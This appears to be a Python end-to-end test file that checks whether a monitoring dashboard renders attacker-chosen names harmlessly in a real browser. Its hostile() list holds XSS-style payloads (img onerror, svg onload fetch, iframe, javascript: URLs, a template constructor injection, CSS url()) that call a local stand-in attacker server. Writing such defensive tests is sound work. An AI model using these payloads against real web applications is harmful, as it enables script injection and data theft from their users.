"""Names that attackers choose, on every page of a real browser: nothing is fetched, opened, run or linked."""

from __future__ import annotations

import contextlib
import http.server
import threading
from collections.abc import Iterator
from typing import Any
from urllib.parse import quote

import pytest

from tests.e2e.conftest import Dashboard, wait_for
from tests.e2e.load import measured
from tests.e2e.stream_sender import sending, violation
from tests.e2e.visiting import settled
from tests.naughty_strings import naughty_strings
from ui.navigation import existing, path

pytestmark = pytest.mark.e2e

LINKS = """() => {
  const out = []
  const walk = root => root.querySelectorAll('*').forEach(e => {
    if (e.shadowRoot) walk(e.shadowRoot)
    if (e.tagName === 'A') out.push(e.href)
  })
  walk(document)
  return out
}"""


SHOWN = """() => {
  const texts = []
  const walk = root => root.querySelectorAll('*').forEach(e => {
    if (e.shadowRoot) walk(e.shadowRoot)
    for (const n of e.childNodes) if (n.nodeType === Node.TEXT_NODE) texts.push(n.data)
  })
  walk(document)
  return texts.join('\\n')
}"""


TEXTS = ("consumer", "service", "route", "node", "evidence", "limit_name", "request_id", "actor")


class Beacon:
    """A server of the attacker's that counts who calls."""

    def __init__(self) -> None:
        self.calls: list[str] = []
        calls = self.calls

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                calls.append(self.path)
                self.send_response(204)
                self.end_headers()

            def log_message(self, *_arguments: object) -> None:
                return

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_port}"


@contextlib.contextmanager
def listening() -> Iterator[Beacon]:
    beacon = Beacon()
    threading.Thread(target=beacon.server.serve_forever, daemon=True).start()
    try:
        yield beacon
    finally:
        beacon.server.shutdown()
        beacon.server.server_close()


def hostile(url: str) -> tuple[str, ...]:
    """Names that do something in HTML, markdown, Plotly, a URL or a template."""
    return (
        f"<img src={url}/img onerror=alert(1)>",
        f"<script src={url}/script></script><script>alert(2)</script>",
        f"![pic]({url}/md-image)",
        f"[click me]({url}/md-link)",
        f"{url}/bare",
        f"www.{url.removeprefix('http://')}/www",
        f"<a href='{url}/plotly'>here</a>",
        f"<svg/onload=fetch('{url}/svg')>",
        f'"><iframe src={url}/iframe>',
        f"javascript:fetch('{url}/js')",
        "$\\href{" + url + "/latex}{x}$",
        ":material/home: :red[state] :smile:",
        f"{{{{constructor.constructor('fetch(\"{url}/template\")')()}}}}",
        "\u202egpj.exe\u200b",
        f"'; url({url}/css); '",
        "%{customdata} {at:0} {zone}",
    )


@pytest.fixture
def attacked(dashboard: Dashboard) -> Iterator[tuple[Dashboard, Beacon]]:
    """A dashboard whose every text comes from an attacker."""
    with listening() as beacon:
        names = hostile(beacon.url)
        with sending(dashboard.ws, source=names[0]) as sender:
            for place, name in enumerate(names):
                other = names[(place + 1) % len(names)]
                sender.send(
                    *(
                        violation(
                            consumer=name,
                            service=other,
                            route=name,
                            node=other,
                            evidence=name,
                            limit_name=name,
                            request_id=name,
                            payload={name: name, "html": name},
                        )
                        for _ in range(3)
                    ),
                    {"kind": name, "event": other, "id": f"k-{place}"},
                    {
                        "kind": "crud",
                        "event": "services.updated",
                        "id": f"c-{place}",
                        "entity_type": "services",
                        "entity_id": f"s-{place}",
                        "entity_name": name,
                        "operation": "update",
                        "actor": name,
                        "before": {"id": f"s-{place}", "name": name},
                        "after": {"id": f"s-{place}", "name": other},
                    },
                    {
                        "kind": "cluster",
                        "event": "node_started",
                        "id": f"n-{place}",
                        "node": name,
                        "hostname": name,
                        "version": name,
                    },
                    {
                        "kind": "cluster",
                        "event": "target_unhealthy",
                        "id": f"t-{place}",
                        "node": name,
                        "upstream": name,
                        "target": other,
                        "health": name,
                    },
                    {
                        "kind": "cache",
                        "event": "invalidated",
                        "id": f"i-{place}",
                        "cache": name,
                        "key": name,
                        "entity_type": name,
                        "node": other,
                    },
                )
                sender.wait_stored()
            yield dashboard, beacon


def addresses(names: tuple[str, ...]) -> list[str]:
    """Every page, and those of some names; filters with such names as well."""
    found = [path(entry.name) for entry in existing()]
    found += [f"/consumers?range=1h&of={quote(name, safe='')}" for name in names]
    found += [f"/addresses?of={quote(names[0], safe='')}", f"/events?of={quote(names[0], safe='')}"]
    found += [
        f"/?consumer={quote(names[2], safe='')}&not_ip={quote(names[0], safe='')}",
        "/addresses?of=203.0.113.7",
    ]
    return [*found, "/events?of=1", "/events?of=4", "/events?of=5", "/?group=service", "/?group=node"]


class Visit:
    """What came of looking at pages: everything in it but `shown` should be empty."""

    def __init__(self) -> None:
        self.problems: list[str] = []
        """Links that lead elsewhere, and failures shown on a page."""
        self.dialogs: list[str] = []
        self.foreign: list[str] = []
        """Addresses that the browser was made to ask, other than ours."""
        self.violations: list[str] = []
        self.shown = ""
        """Every text that stood on a page."""

    @property
    def harm(self) -> tuple[list[str], list[str], list[str], list[str]]:
        """All that should not have happened."""
        return self.problems, self.dialogs, self.foreign, self.violations


def visited(browser: Any, dashboard: Dashboard, paths: list[str]) -> Visit:
    """Open each page, let it settle, move the mouse over its chart."""
    found = Visit()
    page = browser.new_page(viewport={"width": 1440, "height": 900})
    ours = (dashboard.url, "data:", "blob:")

    def dismiss(dialog: Any) -> None:
        found.dialogs.append(dialog.message)
        dialog.dismiss()

    page.on("dialog", dismiss)
    page.on("request", lambda r: None if r.url.startswith(ours) else found.foreign.append(r.url))
    page.on(
        "console",
        lambda m: found.violations.append(m.text) if "Content Security Policy" in m.text else None,
    )
    for path_of in paths:
        page.goto(dashboard.url + path_of)
        wait_for(lambda: settled(page), f"page {path_of}", 30)
        page.wait_for_timeout(600)
        page.mouse.move(600, 300)
        links = page.evaluate(LINKS)
        found.problems += [f"{path_of}: link {href}" for href in links if not href.startswith(dashboard.url)]
        boxes = page.locator("[data-testid=stException]").all_inner_texts()
        found.problems += [f"{path_of}: {text}" for text in boxes]
        found.shown += page.evaluate(SHOWN)
    page.close()
    return found


def test_hostile_names_do_nothing_on_any_page(attacked: tuple[Dashboard, Beacon], browser: Any) -> None:
    dashboard, beacon = attacked
    names = hostile(beacon.url)

    visit = visited(browser, dashboard, addresses(names))

    assert visit.harm == ([], [], [], [])
    assert beacon.calls == []
    readable = {name for name in names if name.isprintable()}
    unseen = {name for name in readable if name not in visit.shown}
    assert not unseen, f"never shown as they are: {unseen}"


NAUGHTY_PAGES = 40
"""Consumers whose own page is opened: those of the list that look most like HTML, markdown or a script."""


@pytest.mark.slow
@pytest.mark.timeout(1500)
def test_the_big_list_of_naughty_strings_does_nothing_on_any_page(dashboard: Dashboard, browser: Any) -> None:
    strings = naughty_strings()
    with sending(dashboard.ws, source=strings[0]) as sender:
        for start in range(0, len(strings), 40):
            sender.send(
                *(violation(**dict.fromkeys(TEXTS, name), x=name) for name in strings[start : start + 40])
            )
            sender.send(*({"kind": name, "event": name, "id": name} for name in strings[start : start + 40]))
            sender.wait_stored()
    marks = sorted(strings, key=lambda name: -sum(name.count(mark) for mark in "<>[](){}$`:/"))
    pages = [path(entry.name) for entry in existing()]
    pages += [f"/consumers?range=1h&of={quote(name, safe='')}" for name in marks[:NAUGHTY_PAGES]]
    pages += [f"/events?of={seq}" for seq in range(1, 2 * len(strings), 47)]
    pages += [f"/?consumer={quote(name, safe='')}&not_route={quote(name, safe='')}" for name in marks[:10]]

    visit = visited(browser, dashboard, pages)
    seen = [name for name in strings if name in visit.shown]
    measured(f"{len(pages)} pages, {len(seen)} of {len(strings)} strings seen on them as they are")

    assert visit.harm == ([], [], [], [])
    assert len(seen) > NAUGHTY_PAGES
